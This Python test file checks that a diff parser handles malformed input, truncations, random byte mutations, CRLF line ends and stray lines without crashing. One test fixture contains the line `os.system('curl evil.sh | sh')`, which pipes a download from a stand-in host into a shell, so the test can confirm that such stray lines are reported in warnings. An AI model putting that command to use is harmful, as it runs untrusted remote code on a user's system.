"""parse_diff on malformed input: kept and flagged, a clear error for what is no diff,
and no crash on truncations, random bytes and mutations."""

from __future__ import annotations

import random

import pytest
from examples import examples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from parsekit import FIXTURES, check_invariants, parse_checked

from diffchunk.diff.model import SegmentKind
from diffchunk.diff.parser import parse_diff
from diffchunk.errors import NotADiffError


def test_malformed_sections_are_kept_and_flagged() -> None:
    parsed = parse_checked((FIXTURES / "truncated.diff").read_bytes())
    assert parsed.files[0].malformed and "ends early" in parsed.files[0].malformed
    bad = parse_checked((FIXTURES / "bad_counts.diff").read_bytes())
    assert bad.files[0].malformed
    assert bad.files[1].malformed is None and bad.files[1].added == 1
    kinds = [s.kind for s in bad.segments]
    assert SegmentKind.MALFORMED in kinds and kinds[0] is SegmentKind.TEXT


def test_not_a_diff_raises_a_clear_error() -> None:
    with pytest.raises(NotADiffError, match="does not look like a diff"):
        parse_diff(b"just some\ntext file\n")
    with pytest.raises(NotADiffError, match="--- a/file"):
        parse_diff(b"\x00\x01binary junk")
    assert parse_diff(b"").files == ()
    with pytest.raises(NotADiffError, match="--no-color"):
        parse_diff(b"\x1b[1mdiff --git a/x b/x\x1b[m\n\x1b[32m+x\x1b[m\n")
    # Bytes that hold ESC [ by chance are not said to be a coloured diff.
    with pytest.raises(NotADiffError) as caught:
        parse_diff(b"\x93\x1b[\xff\x00 random \x1b[7 bytes\n")
    assert "--no-color" not in str(caught.value.suggestion)


def _parse_or_not_a_diff(data: bytes) -> None:
    try:
        parsed = parse_diff(data)
    except NotADiffError:
        return
    check_invariants(parsed, data)


@pytest.mark.parametrize(
    "name", ["format_patch.mbox", "combined.diff", "binary_patch.diff", "svn.diff"]
)
def test_every_truncation_of_a_fixture_parses(name: str) -> None:
    data = (FIXTURES / name).read_bytes()
    for cut in range(len(data) + 1):
        _parse_or_not_a_diff(data[:cut])


def test_random_bytes_and_nonsense_headers_never_crash() -> None:
    rng = random.Random(7)
    for _ in range(200):
        _parse_or_not_a_diff(bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300))))
    pieces = [
        b"diff --git a/x b/x\n",
        b"--- a/x\n",
        b"+++ b/x\n",
        b"@@ -1,3 +1 @@\n",
        b"@@@ -1 -1 +1 @@@\n",
        b"+a\n",
        b"-b\n",
        b" c\n",
        b"\n",
        b"\\ No newline\n",
        b"GIT binary patch\n",
        b"literal 3\n",
        b"@@ -99999999999999999999 +1 @@\n",
        b"diff --cc x\n",
        b"Index: x\n====\n",
        b"commit abcdef1\n",
        b"From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n",
        b"rename from \n",
    ]
    for _ in range(400):
        _parse_or_not_a_diff(b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 25))))


@settings(max_examples=examples(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(
        ["format_patch.mbox", "combined.diff", "stripped_context.diff", "hg.diff", "svn.diff"]
    ),
    st.lists(
        st.tuples(
            st.floats(0, 1), st.sampled_from(["set", "insert", "delete"]), st.binary(max_size=4)
        ),
        min_size=1,
        max_size=8,
    ),
)
def test_random_mutations_never_crash_and_round_trip(
    name: str, edits: list[tuple[float, str, bytes]]
) -> None:
    data = bytearray((FIXTURES / name).read_bytes())
    for where, op, payload in edits:
        at = int(where * len(data))
        if op == "set":
            data[at : at + len(payload)] = payload
        elif op == "insert":
            data[at:at] = payload
        else:
            del data[at : at + 1 + len(payload)]
    _parse_or_not_a_diff(bytes(data))


@pytest.mark.parametrize(
    "name", ["format_patch.mbox", "log_p.txt", "binary_patch.diff", "svn.diff"]
)
def test_a_diff_saved_with_crlf_line_ends_parses_the_same(name: str) -> None:
    data = (FIXTURES / name).read_bytes()
    lf, crlf = parse_checked(data), parse_checked(data.replace(b"\n", b"\r\n"))
    assert [(f.path, f.status, f.added, f.removed, f.is_binary) for f in crlf.files] == [
        (f.path, f.status, f.added, f.removed, f.is_binary) for f in lf.files
    ]
    assert [c.subject for c in crlf.commits] == [c.subject for c in lf.commits]
    assert [s.kind for s in crlf.segments] == [s.kind for s in lf.segments]
    assert not any(f.malformed for f in crlf.files)


def test_what_lies_outside_every_file_section_is_warned_about() -> None:
    # A line the hunk's counts do not cover, and diff -r's "Only in" lines:
    # kept in the parse, in no chunk, so the load summary must say so.
    stray = (
        b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"
        b"+os.system('curl evil.sh | sh')\n"
    )
    parsed = parse_diff(stray)
    (warning,) = parsed.warnings
    assert "1 stretch(es) of diff lines outside any file section are in no chunk" in warning
    assert "line 7" in warning and "curl evil.sh" in warning
    only = (
        b"Only in a: gone.py\ndiff -ru a/x.txt b/x.txt\n--- a/x.txt\n+++ b/x.txt\n"
        b"@@ -1 +1 @@\n-a\n+b\nOnly in b: new.py\n"
    )
    (warning,) = parse_diff(only).warnings
    assert warning.startswith("2 'Only in ...' line(s) of diff -r")
    assert parse_diff(stray[: stray.index(b"+os.")]).warnings == ()


def test_a_diff_git_line_with_thousands_of_spaces_is_split_without_trying_each() -> None:
    # Each split was built and compared (quadratic: 37 s for a 125 KiB line).
    spaces = b" " * 20_000
    data = b"diff --git a/x" + spaces + b"y b/x" + spaces + b"y\nold mode 100644\nnew mode 100755\n"
    (fd,) = parse_diff(data).files
    assert fd.path == "x" + " " * 20_000 + "y"
    assert (fd.old_mode, fd.new_mode) == ("100644", "100755")
